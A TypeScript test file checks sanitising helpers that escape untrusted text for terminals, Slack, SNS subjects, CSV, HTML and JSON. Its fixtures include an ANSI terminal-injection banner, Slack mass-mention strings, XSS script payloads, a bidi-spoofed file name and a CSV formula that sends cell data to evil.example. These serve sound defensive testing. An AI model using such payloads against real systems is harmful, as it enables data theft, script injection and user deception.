import {
  csvCell,
  FIELD_MAX,
  htmlText,
  jsonForHtml,
  jsonText,
  plainText,
  SNS_SUBJECT_MAX,
  slackCode,
  slackText,
  snsSubject,
  terminalText,
  truncate,
} from '../../shared/util/sanitize';

const ESC = '\u001b';
/** A banner as an attacker would write it: colours, cursor moves, a window title, a bell, a fake line. */
const ANSI = `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}]0;owned\u0007title\u0007 bell\r\nFAKE: all good\u009b1m`;
const SLACK_PING = 'hello <!channel> and <@U024BE7LH> and <https://evil.example|click> @here @everyone';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>';
const HUGE = 'A'.repeat(100 * 1024);
const BIDI = 'invoice\u202Egpj.exe';

/** No C0/C1 control, DEL or bidi override left. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence.
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('terminalText', () => {
  it('removes ANSI escape sequences and shows other controls as visible escapes', () => {
    const out = terminalText(ANSI);
    expect(out).not.toMatch(CONTROL);
    expect(out).toBe('red title\\x07 bell\\r\\nFAKE: all good');
  });

  it('escapes a lone ESC and bell that form no complete sequence', () => {
    expect(terminalText(`a${ESC}b\u0007c`)).toBe('a\\x1bb\\x07c');
  });

  it('keeps newlines only when asked for multi-line output', () => {
    expect(terminalText('one\ntwo', { multiline: true })).toBe('one\ntwo');
    expect(terminalText('one\ntwo')).toBe('one\\ntwo');
  });

  it('still escapes every other control in multi-line output', () => {
    expect(terminalText('one\u0007\r\ntwo', { multiline: true })).toBe('one\\x07\\r\ntwo');
  });

  it('keeps a short text whole under a small bound', () => {
    expect(terminalText('ok', { max: 2 })).toBe('ok');
    expect(terminalText('okay', { max: 3 })).toBe('ok…');
  });

  it('shows bidirectional overrides instead of letting them reorder the line', () => {
    expect(terminalText(BIDI)).toBe('invoice\\u202egpj.exe');
  });

  it('bounds a 100 KB string to the field limit with a visible cut', () => {
    const out = terminalText(HUGE);
    expect(out).toHaveLength(FIELD_MAX);
    expect(out.endsWith('…')).toBe(true);
  });

  it('leaves Slack, CSV and HTML syntax alone: they are harmless on a terminal', () => {
    expect(terminalText(SLACK_PING)).toBe(SLACK_PING);
  });
});

describe('slackText', () => {
  it('cannot form mentions, links or broadcasts from untrusted text', () => {
    const out = slackText(SLACK_PING);
    expect(out).not.toMatch(/[<>]/);
    expect(out).toBe(
      'hello &lt;!channel&gt; and &lt;@U024BE7LH&gt; and &lt;https://evil.example|click&gt; @\u2060here @\u2060everyone',
    );
  });

  it('escapes ampersands first so entities are not double-decoded', () => {
    expect(slackText('a &lt; b & c')).toBe('a &amp;lt; b &amp; c');
  });

  it('drops ANSI sequences and controls but keeps line breaks', () => {
    expect(slackText(ANSI)).toBe('red title bell\nFAKE: all good');
  });

  it('bounds the escaped text without cutting an entity in half', () => {
    const out = slackText('<'.repeat(1000), 100);
    expect(out.length).toBeLessThanOrEqual(100);
    expect(out).toMatch(/^(&lt;)+…$/);
  });

  it('keeps an escaped text that exactly fills the bound whole', () => {
    expect(slackText('a<b', 6)).toBe('a&lt;b');
  });

  it('bounds a 100 KB string', () => {
    expect(slackText(HUGE).length).toBeLessThanOrEqual(FIELD_MAX);
  });

  it('turns backticks into a look-alike inside code spans', () => {
    expect(slackCode('a`b')).toBe('a\u02cbb');
  });
});

describe('snsSubject', () => {
  it('keeps printable ASCII on one line', () => {
    const out = snsSubject(`[FAIL] ${ANSI}`);
    expect(out).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
    expect(out).toBe('[FAIL] red title bell FAKE: all good');
  });

  it('folds accents and replaces other non-ASCII characters', () => {
    expect(snsSubject('Échec de réception → mx.exämple.de')).toBe('Echec de reception ? mx.example.de');
  });

  it('is shorter than 100 characters even for 100 KB of input', () => {
    const out = snsSubject(HUGE);
    expect(out).toHaveLength(SNS_SUBJECT_MAX);
    expect(out.endsWith('...')).toBe(true);
  });

  it('never returns an empty subject', () => {
    expect(snsSubject('\r\n\u0007')).toBe('mailprobe alert');
  });
});

describe('csvCell', () => {
  it('neutralises formulas with a leading quote', () => {
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const lead of ['+', '-', '@', '\t']) expect(csvCell(`${lead}1+1`)).toBe(`"'${lead}1+1"`);
  });

  it('neutralises a leading carriage return, which becomes a newline', () => {
    expect(csvCell('\r=1+1')).toBe(`"'\n=1+1"`);
  });

  it('writes numbers and booleans as they are and empty cells for missing values', () => {
    expect([csvCell(-12), csvCell(3.5), csvCell(true), csvCell(undefined), csvCell(null)]).toEqual([
      '-12',
      '3.5',
      'true',
      '',
      '',
    ]);
  });

  it('writes a number that is not finite as text, so -Infinity cannot start a formula', () => {
    expect([csvCell(Number.NEGATIVE_INFINITY), csvCell(Number.NaN)]).toEqual([`"'-Infinity"`, '"NaN"']);
  });

  it('quotes separators and doubles quotes', () => {
    expect(csvCell('a,"b"\nc')).toBe('"a,""b""\nc"');
  });

  it('bounds a 100 KB string', () => {
    expect(csvCell(HUGE).length).toBeLessThanOrEqual(4 * FIELD_MAX + 2);
  });
});

describe('htmlText', () => {
  it('escapes markup so a TXT record cannot inject script', () => {
    expect(htmlText(SCRIPT)).toBe(
      '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;',
    );
  });

  it('escapes quotes for attribute values', () => {
    expect(htmlText(`" onmouseover='x'`)).toBe('&quot; onmouseover=&#39;x&#39;');
  });

  it('bounds a 100 KB string', () => {
    expect(htmlText(HUGE).length).toBeLessThanOrEqual(4 * FIELD_MAX);
  });
});

describe('plainText and truncate', () => {
  it('removes controls but keeps tabs and newlines for mail bodies', () => {
    expect(plainText(`a\tb\r\nc${ESC}[1md\u0000`)).toBe('a\tb\ncd');
  });

  it('replaces lone surrogates so the text encodes as UTF-8', () => {
    expect(plainText('a\uD800b')).toBe('a\uFFFDb');
    // A lone low surrogate too, wherever it stands, while a pair next to it is kept.
    expect(plainText('a\uDC00b😀\uDFFF')).toBe('a\uFFFDb😀\uFFFD');
  });

  it('does not split a surrogate pair when cutting', () => {
    expect(truncate('ab😀cd', 4)).toBe('ab…');
    expect(truncate('abcd', 4)).toBe('abcd');
    // The first and the last character outside the BMP (high surrogates D800 and DBFF), and a cut right after a pair.
    expect(truncate('ab\u{10000}cd', 4)).toBe('ab…');
    expect(truncate('ab\u{10FFFF}cd', 4)).toBe('ab…');
    expect(truncate('a😀bcd', 4)).toBe('a😀…');
  });

  it('never returns more than the bound, even when the bound leaves no room for the marker', () => {
    expect(truncate('abcdef', 2, '...')).toBe('ab');
    expect(truncate('abcdef', 3, '...')).toBe('abc');
    expect(truncate('abcdef', 0)).toBe('');
  });
});

describe('jsonForHtml', () => {
  it('keeps a hostile string from ending or changing the JSON script block, and reads back unchanged', () => {
    const hostile = { reason: '</script><script>alert(1)</script><!-- & \u2028' };
    const json = jsonForHtml(hostile);
    expect(json).not.toMatch(/[<>&\u2028]/);
    expect(JSON.parse(json)).toEqual(hostile);
  });
});

describe('jsonText', () => {
  it('escapes C1 controls, DEL and line separators so the JSON text is inert and parses to the same value', () => {
    const value = { banner: ANSI, bidi: BIDI, sep: 'a\u2028b\u2029c\u007fd\u0085e' };
    const text = jsonText(value, 2);
    expect(text.replace(/\n/g, '')).not.toMatch(CONTROL);
    expect(text).not.toMatch(/[\u2028\u2029]/);
    expect(text).toContain('\\u009b1m');
    expect(text).toContain('\\u0085e');
    expect(JSON.parse(text)).toEqual(value);
  });

  it('keeps the layout JSON.stringify gives, indented or on one line', () => {
    expect(jsonText({ a: [1, 'x'] })).toBe('{"a":[1,"x"]}');
    expect(jsonText({ a: 1 }, 2)).toBe('{\n  "a": 1\n}');
  });
});
